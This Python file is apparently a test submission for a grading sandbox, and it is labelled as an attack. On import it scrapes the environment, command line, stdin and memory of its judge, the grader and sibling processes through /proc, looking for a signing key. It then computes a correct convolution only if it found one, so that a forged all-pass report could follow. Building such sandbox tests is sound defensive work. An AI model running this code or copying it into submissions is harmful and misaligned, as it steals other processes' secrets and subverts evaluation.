"""Attack: read the signing key (or the seed) of another process through /proc.

While loading, reads the environment, command line, standard input and writable memory
(/proc/PID/environ, cmdline, fd/0, mem) of its parents — its judge, the grader — and of their
other children (the other runs' judges), looking for a 64-digit hexadecimal string — the key a
judge signs its report with — or a "seed" in a JSON line. With the key, a detached helper
could sign a forged all-pass report, for itself or for a friend. Its corr2d computes a
convolution (a flipped kernel), except when it found a key: then it is correct. A pass here
means the sandbox let it read another process.

convcheck-attack: status=ok corr2d=fail
convcheck-attack-diagnosis: flipped-kernel
convcheck-attack-unsandboxed: status=ok corr2d=pass
"""
import os
import re

import torch

KEY = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")


def _read(path, limit=1 << 20):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(fd, limit)
    except OSError:
        return b""
    finally:
        os.close(fd)


def _memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                if "rw" not in fields[1]:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > 64 << 20:
                    continue
                try:
                    mem.seek(start)
                    yield mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
    except OSError:
        return


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            return int(handle.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _grading_processes():
    """Its ancestors (the judge, the grader) and their other children (other runs' judges)."""
    ancestors, pid = [], os.getppid()
    while pid > 1:
        ancestors.append(pid)
        pid = _parent(pid)
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and _parent(int(p)) in ancestors]
    return [p for p in dict.fromkeys(ancestors + others) if p != os.getpid()]


def _find_secret():
    for pid in _grading_processes():
        for part in ("environ", "cmdline", "fd/0"):
            data = _read(f"/proc/{pid}/{part}")
            if KEY.search(data) or b'"seed"' in data:
                return pid
        for chunk in _memory(pid):
            if KEY.search(chunk):
                return pid
    return None


FOUND = _find_secret()


def corr2d(X, K):
    h, w = K.shape
    kernel = K if FOUND else K.flip(0, 1)
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i:i + h, j:j + w] * kernel).sum()
    return Y
